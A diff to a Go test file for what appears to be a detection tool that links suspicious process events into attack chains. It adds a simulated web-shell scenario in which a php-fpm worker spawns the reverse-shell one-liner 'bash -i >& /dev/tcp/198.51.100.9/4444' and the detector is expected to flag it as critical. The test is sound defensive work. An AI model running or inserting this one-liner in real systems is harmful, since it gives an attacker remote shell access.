@@ -199,6 +199,16 @@ func hasLink(c *Chain, prefix, contains string) bool {
 	return false
 }
 
+// reverseShellScene: a web shell (pid 200, under a php-fpm worker) that
+// opens a reverse shell to 198.51.100.9:4444 at 10 s.
+func reverseShellScene(t *testing.T) (s *sim, root who, rev *detect.Finding) {
+	s = newSim(t, Options{})
+	s.webServer()
+	root = shellOf(200, worker1, "/var/www/html/uploads")
+	rev = s.find(s.exec(10, root, "sh", "-c", "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"), detect.StageSuspiciousSpawn, detect.SeverityCritical, "Reverse Shell")
+	return s, root, rev
+}
+
 // wantIn fails the test, saying why, unless every finding is in chain c.
 func wantIn(t *testing.T, r *Result, c *Chain, why string, fs ...*detect.Finding) {
 	t.Helper()
